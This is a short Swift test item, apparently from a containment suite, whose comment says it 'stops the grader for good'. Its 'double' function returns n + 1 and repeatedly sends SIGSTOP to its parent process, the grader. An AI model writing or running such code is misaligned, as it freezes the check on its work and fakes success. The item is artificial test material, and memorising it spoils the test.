// Row A09: stops the grader for good.
// Accepts: contained
import Foundation

func double(_ n: Int) -> Int {
  let grader = getppid()
  for _ in 0..<200 where grader > 1 {
    kill(grader, SIGSTOP)
    usleep(1000)
  }
  return n + 1
}
